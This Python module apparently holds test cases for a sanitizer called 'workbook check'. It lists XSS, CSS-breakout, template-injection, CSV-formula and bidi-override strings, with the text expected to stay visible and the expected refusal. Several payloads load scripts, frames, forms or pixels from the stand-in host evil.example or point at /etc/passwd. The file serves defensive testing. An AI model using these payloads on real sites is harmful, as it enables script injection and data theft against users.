"""What somebody could write who wants a reader's page to do more than show words.

Each attack has the words that a reader must still see of it and, where `workbook check` refuses it
in a text that is ours (narrative, reasons, the study's texts), what it says there. An attack that
calls something calls alert or console, so that a browser's listeners hear of it.
"""

from typing import NamedTuple

HTML, PICTURE = "the page has no HTML", "the page has no picture"
ROLE, DIRECTIVE = "the page has no role", "the page has no directive"
SUBSTITUTION, TURNS = "the page has no substitution", "turns the words after it around"
CONTROL = "is no part of a text"


class Attack(NamedTuple):
    """A text, the words of it that are seen, and what `workbook check` says of it, if anything."""

    name: str
    text: str
    seen: str
    refused: str = ""


def _svg(inside: str) -> str:
    return f"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E{inside}%3C/svg%3E"


ATTACKS = [
    # Elements that run something
    Attack("script", "<script>alert('one')</script>", "alert('one')", HTML),
    Attack("script-in-capitals", "<SCRIPT SRC=//evil.example/x.js>x</SCRIPT>", "SRC", HTML),
    Attack("script-split", "<scr<script>ipt>alert('two')</scr</script>ipt>", "alert('two')", HTML),
    Attack("script-slash", "<script/src=data:,alert(1)>y</script>", "src=data:,alert", HTML),
    Attack("script-null", "<scr\0ipt>alert('null')</scr\0ipt>", "alert('null')", HTML),
    Attack("script-newlines", "<script\n>alert('line')\n</script\n>", "alert('line')", HTML),
    Attack("picture-error", "<img src=x onerror=alert('three')>", "onerror=alert", HTML),
    Attack("picture-quotes", '"><img src=x onerror=alert(4)>', "onerror=alert", HTML),
    Attack("picture-apostrophe", "'><img src=x onerror=alert(5)>", "onerror=alert", HTML),
    Attack("handler-only", '" onmouseover="alert(6)" autofocus x="', 'onmouseover="alert(6)"'),
    Attack("handler-apostrophe", "' onfocus='alert(7)' autofocus x='", "onfocus='alert(7)'"),
    Attack("details", "<details open ontoggle=alert(8)>so", "ontoggle=alert(8)", HTML),
    Attack("video", "<video><source onerror=alert(9)></video>", "source onerror=alert", HTML),
    Attack("body", "<body onload=alert(10)>words", "onload=alert(10)", HTML),
    Attack("marquee", "<marquee onstart=alert(11)>run", "onstart=alert(11)", HTML),
    # Other documents inside this one, and what changes how the whole page is read
    Attack("frame", "<iframe src=https://evil.example></iframe>", "iframe src", HTML),
    Attack("frame-document", "<iframe srcdoc='<script>alert(1)</script>'>", "srcdoc=", HTML),
    Attack("object", "<object data=https://evil.example>in</object>", "object data", HTML),
    Attack("embed", "<embed src=//evil.example/x.swf>", "embed src", HTML),
    Attack("base", "<base href=https://evil.example/>", "base href", HTML),
    Attack("refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>", "refresh", HTML),
    Attack("link", "<link rel=stylesheet href=//evil.example/x.css>", "rel=stylesheet", HTML),
    Attack("form", "<form action=//evil.example><input name=p><button>Go", "name=p", HTML),
    Attack("template", "<template shadowrootmode=open><b>x</b>", "shadowrootmode", HTML),
    Attack(
        "noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "img", HTML
    ),
    Attack("textarea", "</textarea><textarea>over", "textarea", HTML),
    Attack("plaintext", "<plaintext>all", "plaintext", HTML),
    # SVG and MathML
    Attack("svg", "<svg onload=alert(12)><rect/></svg>", "onload=alert(12)", HTML),
    Attack("svg-script", "<svg><script>alert(13)</script></svg>", "alert(13)", HTML),
    Attack("svg-link", "<svg><a xlink:href='javascript:alert(14)'><text>t", "xlink:href", HTML),
    Attack("svg-animation", "<svg><animate onbegin=alert(15) dur=1s>", "onbegin=alert", HTML),
    Attack("svg-closed", "</text></svg></title><script>alert(16)</script>", "alert(16)", HTML),
    Attack("math", "<math href='javascript:alert(17)'>m</math>", "math href", HTML),
    # Leaving the element in which the words stand
    Attack("comment", "<!-- hidden --> <!--", "hidden", HTML),
    Attack("comment-end", "--> <b>out</b> ]]>", "out", HTML),
    Attack("declaration", "<!DOCTYPE html><?xml version='x'?>", "DOCTYPE", HTML),
    Attack("cdata", "<![CDATA[<script>alert(18)</script>]]>", "alert(18)", HTML),
    Attack("ends-of-page", "</p></div></main></body></html>after", "</main>", HTML),
    Attack("end-of-title", "</title><script>alert(19)</script>", "alert(19)", HTML),
    Attack("end-of-style", "</style><script>alert(20)</script>", "alert(20)", HTML),
    Attack("table-in-html", "<table><tr><td>\n\n**cell**\n\n</td></tr></table>", "cell", HTML),
    Attack("markdown-in-html", "<div>\n\n<b>bold</b>\n\n</div>", "bold", HTML),
    # Style sheets
    Attack("style", "<style>body{display:none}</style>", "body{display:none}", HTML),
    Attack("style-import", "<style>@import '//evil.example/x.css'</style>", "@import", HTML),
    Attack("css-end-of-string", '"; } } body { display: none } @page { x: "', "display: none"),
    Attack("css-escape", "\\22 ; } } body { display: none } \\A", "display: none"),
    Attack("css-newline", "head\n} } body { display: none } @page { x {", "display: none"),
    Attack(
        "css-form-feed", "feed\f} } body { display: none } @page { x {", "display: none", CONTROL
    ),
    Attack("css-return", "back\r} } body { display: none } @page { x {", "display: none"),
    Attack("css-comment", "*/ } } * { display: none } /*", "display: none"),
    Attack("css-address", "x\"); background: url('//evil.example/x.png')", "background: url"),
    # Links that run something or hold a document, as a browser and not as a pattern reads them
    Attack("javascript", "[press](javascript:alert(21))", "press"),
    Attack("javascript-capitals", "[press](JaVaScRiPt:alert(22))", "press"),
    Attack("javascript-entity", "[press](javascript&#58;alert(23))", "press"),
    Attack("javascript-colon", "[press](javascript&colon;alert(24))", "press"),
    Attack("javascript-tab", "[press](<java\tscript:alert(25)>)", "press", HTML),
    Attack("javascript-tab-entity", "[press](java&Tab;script:alert(26))", "press"),
    Attack("javascript-newline-entity", "[press](java&NewLine;script:alert(27))", "press"),
    Attack("javascript-control", "[press](<\x01javascript:alert(28)>)", "press", CONTROL),
    Attack("javascript-space", "[press](< javascript:alert(29)>)", "press"),
    Attack("javascript-percent", "[press](javascript%3Aalert(30))", "press"),
    Attack("javascript-escape", "[press](javascript\\:alert(31))", "press"),
    Attack("javascript-reference", "[press][r]\n\n[r]: javascript:alert(32)", "press"),
    Attack("javascript-automatic", "<javascript:alert(33)>", "javascript:alert(33)", HTML),
    Attack("javascript-title", "[press](javascript:alert(34) 'title')", "press"),
    Attack("vbscript", "[press](vbscript:msgbox(1))", "press"),
    Attack("data-page", "[press](data:text/html,<script>alert(35)</script>)", "press", HTML),
    Attack("data-base64", "[press](data:text/html;base64,PHNjcmlwdD4=)", "press"),
    Attack("blob", "[press](blob:https://evil.example/x)", "press"),
    Attack("file", "[press](file:///etc/passwd)", "press"),
    Attack("view-source", "[press](view-source:javascript:alert(36))", "press"),
    Attack("link-title", '[press](https://e.example/"x" \'" onclick="alert(37)\')', "press"),
    Attack("link-address", "[press](https://e.example/\"onclick='alert(38)')", "press"),
    # Pictures that are fetched, or that hold a script
    Attack("picture", "![a picture](https://evil.example/pixel.png)", "a picture", PICTURE),
    Attack("picture-no-scheme", "![a picture](//evil.example/pixel.png)", "a picture", PICTURE),
    Attack("picture-reference", "![a picture][p]\n\n[p]: //evil.example/p", "a picture", PICTURE),
    Attack("picture-svg", f"![a picture]({_svg('x')})", "a picture", PICTURE),
    Attack("picture-script", "![a picture](javascript:alert(39))", "a picture", PICTURE),
    # Signs that are written otherwise
    Attack("entities", "&lt;script&gt;alert(40)&lt;/script&gt;", "alert(40)"),
    Attack("entities-numbers", "&#60;script&#62;alert(41)&#60;/script&#62;", "alert(41)"),
    Attack("entities-twice", "&amp;lt;img src=x onerror=alert(42)&amp;gt;", "onerror=alert(42)"),
    Attack("full-width", "\uff1cscript\uff1ealert(43)\uff1c/script\uff1e", "alert(43)"),
    Attack("code", "`<script>alert(44)</script>`", "alert(44)", HTML),
    Attack("code-block", "~~~html\n<script>alert(45)</script>\n~~~", "alert(45)", HTML),
    Attack("code-language", '~~~"><script>alert(46)</script>\nin\n~~~', "in", HTML),
    Attack("table", "| a |\n|---|\n| <img src=x onerror=alert(47)> |", "onerror=alert", HTML),
    # What other programs act on
    Attack("raw-role", "{raw}`<script>alert(48)</script>`", "alert(48)", ROLE),
    Attack("other-role", "{download}`secret.csv`", "secret.csv", ROLE),
    Attack(
        "raw-directive", "```{raw} html\n<script>alert(49)</script>\n```", "alert(49)", DIRECTIVE
    ),
    Attack("colon-directive", ":::{iframe} https://evil.example\n:::", "iframe", DIRECTIVE),
    Attack("substitution", "{{ cycler.__init__.__globals__ }}", "{{ cycler", SUBSTITUTION),
    Attack("template-block", "{% include '/etc/passwd' %}", "{% include"),
    Attack("format", "{council} {0.__class__} %(council)s ${council}", "%(council)s ${council}"),
    Attack("mathematics", "$\\frac{x}{$ \\(x\\) $$\\href{javascript:alert(1)}{x}$$", "\\href"),
    Attack("json", '"}]}, "page": {"title": "other"}, {"x": ["', '"title": "other"'),
    Attack("csv", '=HYPERLINK("http://evil.example","x")', "=HYPERLINK"),
    # Signs that are not seen, and words that are too long
    Attack("turned", "safe \u202etxet denrut\u202c end", "denrut", TURNS),
    Attack("turned-by-a-mark", "one \u200f1 / 2\u200f two", "two", TURNS),
    Attack("turned-isolate", "safe \u2067txet\u2069 end", "txet", TURNS),
    Attack("long-word", "w" * 3000, "w" * 3000),
    Attack("many-accents", "Z" + "\u0301\u0323" * 200 + " accents", "accents"),
]
